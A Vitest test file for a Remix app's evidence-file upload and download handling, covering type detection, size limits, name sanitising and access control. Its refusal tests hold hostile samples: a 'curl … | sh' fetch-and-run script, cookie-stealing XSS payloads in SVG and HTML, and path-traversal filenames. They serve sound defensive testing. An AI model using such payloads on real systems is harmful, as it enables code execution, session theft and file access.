import fs from "node:fs";
import os from "node:os";
import path from "node:path";
import { createHash } from "node:crypto";
import type { AppLoadContext } from "@remix-run/node";
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from "vitest";
import { fileErrors, type EvidenceFileType } from "~/domain/evidence-files";
import { createLocalStorage } from "~/platform/storage/local.server";
import type { StorageAdapter } from "~/platform/storage/types";
import { discardStaged, parseUpload, recordUploadedFile, type StagedFile } from "~/utils/upload.server";
import { loader as fileLoader } from "../../app/routes/strategies.$strategyId.files.$fileId";
import { addMember, createStrategy, createUser, type TestUser } from "../support/factories";
import { openTestDatabase, type TestDatabase } from "../support/test-db";

/*
 * Uploads through parseUpload, as an action calls it, into a real folder; downloads through the
 * file route's loader, as the person, on a real database (RLS decides who gets the file).
 */

const MAX_BYTES = 64 * 1024;
const fixture = (name: string) => fs.readFileSync(path.join(import.meta.dirname, "../fixtures/files", name));
const utf8 = (text: string) => Buffer.from(text, "utf8");

let db: TestDatabase;
let root: string;
let storage: StorageAdapter;
let temporaries: string;
const systemTmpdir = process.env.TMPDIR;
const systemTemp = os.tmpdir();
beforeAll(async () => {
  db = await openTestDatabase();
  // Uploads are received into os.tmpdir(): a folder of this file's own shows what they leave.
  temporaries = fs.mkdtempSync(path.join(systemTemp, "hub-upload-test-"));
  process.env.TMPDIR = temporaries;
});
afterAll(async () => {
  if (systemTmpdir === undefined) delete process.env.TMPDIR;
  else process.env.TMPDIR = systemTmpdir;
  await db.dispose();
  fs.rmSync(temporaries, { recursive: true, force: true });
});
// A folder of its own for each test, so what one test leaves cannot be blamed on another.
beforeEach(() => {
  root = fs.mkdtempSync(path.join(systemTemp, "hub-files-"));
  storage = createLocalStorage({ root });
});
afterEach(() => fs.rmSync(root, { recursive: true, force: true }));

const STRATEGY = "5e7a7e91-0000-4000-8000-000000000001";
const platform = (maxBytes = MAX_BYTES) => ({ storage, config: { uploads: { maxBytes } } });

/** A form post as a browser sends it: fields in order, then the file (or an empty file input). */
function formPost(fields: Record<string, string>, file?: { name: string; bytes: Uint8Array; type?: string }): Request {
  const form = new FormData();
  for (const [name, value] of Object.entries(fields)) form.append(name, value);
  form.append("file", file ? new File([new Uint8Array(file.bytes)], file.name, { type: file.type ?? "application/pdf" }) : new File([], ""));
  return new Request("http://localhost/strategies/x/evidence/new", { method: "POST", body: form });
}

/** Uploads one file and returns what parseUpload gives the action. */
async function upload(name: string, bytes: Uint8Array, options: { allowed?: readonly EvidenceFileType[]; type?: string } = {}) {
  return parseUpload(formPost({ title: "Board minutes" }, { name, bytes, type: options.type }), platform(), {
    strategyId: STRATEGY,
    allowed: options.allowed,
  });
}

/** Every file in the storage folder and every upload temporary, to prove nothing was left. */
function leftovers(): string[] {
  const stored = fs.readdirSync(root, { recursive: true, withFileTypes: true }).filter((e) => e.isFile());
  return [...stored.map((e) => path.join(e.parentPath, e.name)), ...fs.readdirSync(temporaries)];
}

async function storedBytes(staged: StagedFile): Promise<Buffer> {
  const chunks: Buffer[] = [];
  for await (const chunk of await storage.open(staged.storageKey)) chunks.push(chunk as Buffer);
  return Buffer.concat(chunks);
}

describe("an accepted upload", () => {
  it("stores a small PDF under a server-made key, with its SHA-256, size, type and a safe name", async () => {
    const pdf = fixture("evidence.pdf");
    const { formData, staged, fileError } = await upload("Board minutes (March).pdf", pdf);
    expect(fileError).toBeUndefined();
    expect(formData.get("title")).toBe("Board minutes");
    expect(formData.has("file")).toBe(false);
    expect(staged).toMatchObject({
      strategyId: STRATEGY,
      sha256: createHash("sha256").update(pdf).digest("hex"),
      byteSize: pdf.length,
      contentType: "application/pdf",
      fileName: "Board minutes (March).pdf",
    });
    expect(staged!.storageKey).toMatch(new RegExp(`^${STRATEGY}/[0-9a-f-]{36}$`));
    expect(await storedBytes(staged!)).toEqual(pdf);
    await discardStaged(storage, staged);
    expect(leftovers()).toEqual([]);
  });

  it.each([
    ["chart.png", "image/png"],
    ["minutes.docx", "application/vnd.openxmlformats-officedocument.wordprocessingml.document"],
    ["vacancies.xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"],
    ["notes.odt", "application/vnd.oasis.opendocument.text"],
  ])("knows %s by its content", async (name, type) => {
    const { staged } = await upload(name, fixture(name), { type: "application/octet-stream" });
    expect(staged).toMatchObject({ contentType: type, fileName: name });
    await discardStaged(storage, staged);
  });

  it("knows a JPEG by its signature, whatever its name says", async () => {
    const jpeg = Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0x00, 0x10]), utf8("JFIF\0"), Buffer.alloc(64, 1)]);
    const { staged } = await upload("photo", jpeg);
    expect(staged).toMatchObject({ contentType: "image/jpeg", fileName: "photo.jpg" });
    await discardStaged(storage, staged);
  });

  it("takes UTF-8 text as plain text, or as CSV when its name ends .csv", async () => {
    const csv = await upload("Vacancies 2026.CSV", utf8("measure,period_end,value\nVacancy rate,2026-03-31,7.1\n"));
    expect(csv.staged).toMatchObject({ contentType: "text/csv", fileName: "Vacancies 2026.csv" });
    const text = await upload("notes.md", utf8("\uFEFFNotes from the listening event — “we want to be heard”.\n"));
    expect(text.staged).toMatchObject({ contentType: "text/plain", fileName: "notes.md.txt" });
    await discardStaged(storage, csv.staged);
    await discardStaged(storage, text.staged);
  });

  it("gives no file and no error when the file input was left empty", async () => {
    const result = await parseUpload(formPost({ title: "No file" }), platform(), { strategyId: STRATEGY });
    expect(result).toMatchObject({ staged: null, fileError: undefined });
    expect(result.formData.get("title")).toBe("No file");
  });
});

describe("a refused upload", () => {
  /** Expects the file refused with `message`, the other fields kept and nothing stored or left over. */
  async function expectRefused(result: Awaited<ReturnType<typeof upload>>, message: string) {
    expect(result.fileError).toBe(message);
    expect(result.staged).toBeNull();
    expect(result.formData.get("title")).toBe("Board minutes");
    expect(leftovers()).toEqual([]);
  }
  const wrongType = fileErrors.wrongType();

  it("stops reading a body as soon as the file passes the limit, never reading the whole of it", async () => {
    const boundary = "----hub-test-boundary";
    const chunk = Buffer.alloc(16 * 1024, 0x41);
    const chunks = 640; // 10 MB of file, against a 64 KB limit
    let pulled = 0;
    let cancelled = false;
    async function* body() {
      yield utf8(`--${boundary}\r\nContent-Disposition: form-data; name="title"\r\n\r\nBoard minutes\r\n`);
      yield utf8(`--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="huge.pdf"\r\nContent-Type: application/pdf\r\n\r\n%PDF-1.4\n`);
      for (let i = 0; i < chunks; i++) yield chunk;
      yield utf8(`\r\n--${boundary}--\r\n`);
    }
    const source = body();
    const stream = new ReadableStream<Uint8Array>(
      {
        async pull(controller) {
          const next = await source.next();
          if (next.done) return controller.close();
          pulled += next.value.byteLength;
          controller.enqueue(next.value);
        },
        cancel() {
          cancelled = true;
        },
      },
      { highWaterMark: 0 },
    );
    const request = new Request("http://localhost/upload", {
      method: "POST",
      headers: { "Content-Type": `multipart/form-data; boundary=${boundary}` },
      body: stream,
      duplex: "half",
    } as RequestInit);

    const result = await parseUpload(request, platform(), { strategyId: STRATEGY });
    const pulledWhenRefused = pulled;
    const whole = chunks * chunk.length;

    expect(result.fileError).toBe("The file is larger than 64 KB");
    expect(result.staged).toBeNull();
    expect(result.formData.get("title")).toBe("Board minutes");
    // The limit plus at most a couple of chunks in flight: not the 10 MB sent.
    expect(pulledWhenRefused).toBeGreaterThan(MAX_BYTES);
    expect(pulledWhenRefused).toBeLessThan(MAX_BYTES + 3 * chunk.length);
    expect(pulledWhenRefused).toBeLessThan(whole / 100);
    // What the browser is still sending is dropped (up to one more limit), then the body is closed.
    await expect.poll(() => cancelled).toBe(true);
    expect(pulled).toBeLessThan(2 * MAX_BYTES + 3 * chunk.length);
    expect(leftovers()).toEqual([]);
  });

  it("says how large a file may be in the limit's own words", async () => {
    const result = await parseUpload(
      formPost({ title: "Board minutes" }, { name: "big.pdf", bytes: Buffer.alloc(2 * 1024 * 1024 + 1, 0x41) }),
      platform(2 * 1024 * 1024),
      { strategyId: STRATEGY },
    );
    await expectRefused(result, "The file is larger than 2 MB");
    expect(fileErrors.tooLarge(20971520)).toBe("The file is larger than 20 MB");
  });

  it("refuses an empty file", async () => {
    await expectRefused(await upload("empty.pdf", new Uint8Array()), "The file is empty");
  });

  it("stores a .pdf that is really a PNG as a PNG, or refuses it where only PDFs are allowed", async () => {
    const png = fixture("chart.png");
    const { staged } = await upload("report.pdf", png);
    expect(staged).toMatchObject({ contentType: "image/png", fileName: "report.png" });
    await discardStaged(storage, staged);
    await expectRefused(await upload("report.pdf", png, { allowed: ["application/pdf"] }), "The file must be a PDF");
  });

  it.each([
    ["a Windows program", "invoice.pdf", Buffer.concat([utf8("MZ"), Buffer.alloc(254, 0x90)])],
    ["a Linux program", "invoice.pdf", Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), Buffer.alloc(120)])],
    ["a macOS program", "invoice.pdf", Buffer.concat([Buffer.from([0xcf, 0xfa, 0xed, 0xfe, 7, 0, 0, 1]), Buffer.alloc(120)])],
    ["a script with a shebang", "notes.txt", utf8("#!/bin/sh\ncurl https://example.test/x | sh\n")],
    ["a shebang after a byte order mark", "data.csv", utf8("\uFEFF#!/usr/bin/env node\nprocess.exit(1)\n")],
    ["a zip archive", "minutes.docx", Buffer.from("504b0506000000000000000000000000000000000000", "hex")],
    ["text that is not UTF-8", "notes.txt", Buffer.from("caf\xe9 au lait\n", "latin1")],
    ["text with NUL bytes", "notes.txt", utf8("one\0two\0three")],
  ])("refuses %s", async (_what, name, bytes) => {
    await expectRefused(await upload(name, bytes), wrongType);
  });

  it.each([
    ["an SVG with a script", "chart.svg", '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.cookie)</script></svg>'],
    ["an SVG named .png, after a byte order mark and blank lines", "chart.png", "\uFEFF\n\n   <svg onload=\"alert(1)\"/>"],
    ["an SVG behind an XML declaration", "chart.txt", '<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg"/>'],
    ["an HTML page", "page.html", "<!DOCTYPE html><html><body>Hello</body></html>"],
    ["HTML named as text, in capitals", "notes.txt", "\r\n\t<HTML><BODY onload=alert(1)>"],
    ["a script tag near the start of a CSV", "data.csv", "name,value\n<script>alert(1)</script>,1\n"],
    ["an HTML comment", "notes.txt", "<!-- hello --><p>Hi</p>"],
  ])("refuses %s", async (_what, name, text) => {
    await expectRefused(await upload(name, utf8(text)), wrongType);
  });

  it("ignores a second file and any file under another field's name", async () => {
    const form = new FormData();
    form.append("title", "Board minutes");
    form.append("attachment", new File([fixture("chart.png")], "other.png"));
    form.append("file", new File([fixture("evidence.pdf")], "first.pdf"));
    form.append("file", new File([fixture("chart.png")], "second.png"));
    const result = await parseUpload(new Request("http://localhost/x", { method: "POST", body: form }), platform(), { strategyId: STRATEGY });
    expect(result.staged).toMatchObject({ fileName: "first.pdf", contentType: "application/pdf" });
    expect([...result.formData.keys()]).toEqual(["title"]);
    await discardStaged(storage, result.staged);
  });

  it("answers a body that is not a multipart form with 415", async () => {
    const request = new Request("http://localhost/x", { method: "POST", body: new URLSearchParams({ title: "x" }) });
    const refusal = await parseUpload(request, platform(), { strategyId: STRATEGY }).catch((e: unknown) => e);
    expect(refusal).toBeInstanceOf(Response);
    expect((refusal as Response).status).toBe(415);
  });
});

describe("a file's name", () => {
  it.each([
    ["../../etc/passwd.pdf", "passwd.pdf"],
    ["..\\..\\windows\\system32\\report.pdf", "report.pdf"],
    ["....pdf", "file.pdf"],
    [".hidden.pdf", "hidden.pdf"],
    ["minutes\u202Efdp.exe.pdf", "minutesfdp.exe.pdf"],
    ["bell\u0007\ttab\u0000.pdf", "belltab.pdf"],
    [`${"a".repeat(300)}.pdf`, `${"a".repeat(116)}.pdf`],
    ["report.PDF", "report.pdf"],
    ["scan.jpeg.pdf", "scan.jpeg.pdf"],
    ["report", "report.pdf"],
  ])("%j is shown as %j", async (name, expected) => {
    const { staged } = await upload(name, fixture("evidence.pdf"));
    expect(staged!.fileName).toBe(expected);
    await discardStaged(storage, staged);
  });
});

describe("downloading a file", () => {
  let facilitator: TestUser, worker: TestUser, evaluator: TestUser, outsider: TestUser;
  let strategyId: string, priorityId: string;

  beforeAll(async () => {
    facilitator = await createUser(db);
    worker = await createUser(db);
    evaluator = await createUser(db);
    outsider = await createUser(db);
    ({ strategyId, priorityId } = await createStrategy(db, facilitator, { visibility: "public" }));
    await addMember(db, facilitator, strategyId, worker, [{ role: "worker" }]);
    await addMember(db, facilitator, strategyId, evaluator, [{ role: "evaluator" }]);
    await createStrategy(db, outsider);
  });

  /** What a request by `user` gives the loader as its context. */
  const contextFor = (user: TestUser | null, store: StorageAdapter = storage) =>
    ({
      platform: { db, storage: store, config: { uploads: { maxBytes: MAX_BYTES } } },
      user: user && { id: user.id, email: user.email, name: user.email, claims: user.claims },
    }) as unknown as AppLoadContext;

  /** The loader's answer for `user`: its Response, returned or thrown. */
  async function download(user: TestUser | null, fileId: string, store?: StorageAdapter): Promise<Response> {
    const request = new Request(`http://localhost/strategies/${strategyId}/files/${fileId}`);
    try {
      return await fileLoader({ request, context: contextFor(user, store), params: { strategyId, fileId } });
    } catch (thrown) {
      if (thrown instanceof Response) return thrown;
      throw thrown;
    }
  }

  /** The worker uploads a file and records it, as the evidence form does. */
  async function uploadAsWorker(name: string, bytes: Uint8Array) {
    const { staged } = await parseUpload(formPost({ title: "Minutes" }, { name, bytes }), platform(), { strategyId });
    const fileId = await db.asUser(worker.claims, (tx) => recordUploadedFile(tx, { strategyId, staged: staged! }));
    return { fileId, staged: staged! };
  }

  /** The worker submits a document holding the file. */
  const submitDocument = (fileId: string) =>
    db.asUser(worker.claims, async (tx) => {
      const row = await tx.one<{ id: string }>(
        `insert into public.evidence (strategy_id, kind, category, priority_id, title, source, evidence_date, file_id)
         values ($1, 'document', 'processes', $2, 'Board minutes', 'Workforce board', '2026-03-31', $3) returning id`,
        [strategyId, priorityId, fileId],
      );
      return row!.id;
    });

  const review = (evidenceId: string, status: "verified" | "returned", note: string | null = null) =>
    db.asUser(evaluator.claims, (tx) =>
      tx.query("update public.evidence set status = $2, review_note = $3 where id = $1", [evidenceId, status, note]),
    );

  // nosniff is the server's, on every response: tests/e2e/files.spec.ts checks it is sent once.
  it("gives the submitter the file as an attachment of its own type, and not to be cached", async () => {
    const pdf = fixture("evidence.pdf");
    const { fileId } = await uploadAsWorker("../../etc/Board minutes “March”.pdf", pdf);
    const response = await download(worker, fileId);
    expect(response.status).toBe(200);
    expect(Object.fromEntries(response.headers)).toMatchObject({
      "content-type": "application/pdf",
      "content-length": String(pdf.length),
      "cache-control": "private, no-store",
      "content-disposition":
        "attachment; filename=\"Board minutes ?March?.pdf\"; filename*=UTF-8''Board%20minutes%20%E2%80%9CMarch%E2%80%9D.pdf",
    });
    expect(Buffer.from(await response.arrayBuffer())).toEqual(pdf);
  });

  it("says a text file is UTF-8", async () => {
    const { fileId } = await uploadAsWorker("notes.txt", utf8("Notes from the listening event\n"));
    const response = await download(worker, fileId);
    expect(response.headers.get("content-type")).toBe("text/plain; charset=utf-8");
    await response.arrayBuffer();
  });

  it("answers 404, as if there were no such file, to anyone who may not see it", async () => {
    const { fileId } = await uploadAsWorker("minutes.pdf", fixture("evidence.pdf"));
    // Not yet evidence: only its uploader sees it.
    for (const user of [facilitator, evaluator, outsider, null]) expect((await download(user, fileId)).status).toBe(404);

    const evidenceId = await submitDocument(fileId);
    // Submitted: members and reviewers see it; a visitor and a non-member do not.
    for (const user of [facilitator, evaluator]) expect((await download(user, fileId)).status).toBe(200);
    for (const user of [outsider, null]) expect((await download(user, fileId)).status).toBe(404);

    await review(evidenceId, "verified");
    // Verified evidence of a public strategy: everyone.
    for (const user of [outsider, null]) expect((await download(user, fileId)).status).toBe(200);
  });

  it("hides the file of returned evidence from other members, and not from its submitter or reviewers", async () => {
    const member = await createUser(db);
    await addMember(db, facilitator, strategyId, member, [{ role: "lived_experience" }]);
    const { fileId } = await uploadAsWorker("minutes.pdf", fixture("evidence.pdf"));
    await review(await submitDocument(fileId), "returned", "Please add the date of the meeting.");
    for (const user of [member, outsider, null]) expect((await download(user, fileId)).status).toBe(404);
    for (const user of [worker, evaluator]) expect((await download(user, fileId)).status).toBe(200);
  });

  it("answers 404 for a file of another strategy, an unknown id and something that is not an id", async () => {
    const { fileId } = await uploadAsWorker("minutes.pdf", fixture("evidence.pdf"));
    const other = await createStrategy(db, worker);
    const elsewhere = await fileLoader({
      request: new Request("http://localhost/"),
      context: contextFor(worker),
      params: { strategyId: other.strategyId, fileId },
    }).catch((e: unknown) => e);
    expect((elsewhere as Response).status).toBe(404);
    expect((await download(worker, "00000000-0000-4000-8000-000000000000")).status).toBe(404);
    expect((await download(worker, "../../etc/passwd")).status).toBe(404);
  });

  it("sends the reader to a short-lived signed link when the store has them, after the same check", async () => {
    const signed: string[] = [];
    const linking: StorageAdapter = {
      ...storage,
      async signedUrl(key, { downloadName }) {
        signed.push(downloadName);
        return `https://storage.example.test/sign/${key}?token=t`;
      },
    };
    const { fileId, staged } = await uploadAsWorker("minutes.pdf", fixture("evidence.pdf"));
    const response = await download(worker, fileId, linking);
    expect(response.status).toBe(302);
    expect(response.headers.get("location")).toBe(`https://storage.example.test/sign/${staged.storageKey}?token=t`);
    expect(response.headers.get("cache-control")).toBe("private, no-store");
    expect(signed).toEqual(["minutes.pdf"]);
    expect((await download(outsider, fileId, linking)).status).toBe(404);
    expect(signed).toHaveLength(1);
  });

  it("records a staged file only for the strategy it was staged for, and discards it", async () => {
    const { staged } = await parseUpload(formPost({}, { name: "x.pdf", bytes: fixture("evidence.pdf") }), platform(), {
      strategyId,
    });
    const other = await createStrategy(db, worker);
    await expect(
      db.asUser(worker.claims, (tx) => recordUploadedFile(tx, { strategyId: other.strategyId, staged: staged! })),
    ).rejects.toThrow(/another strategy/);
    await discardStaged(storage, staged);
    await expect(storage.open(staged!.storageKey)).rejects.toThrow(/No stored file/);
  });
});
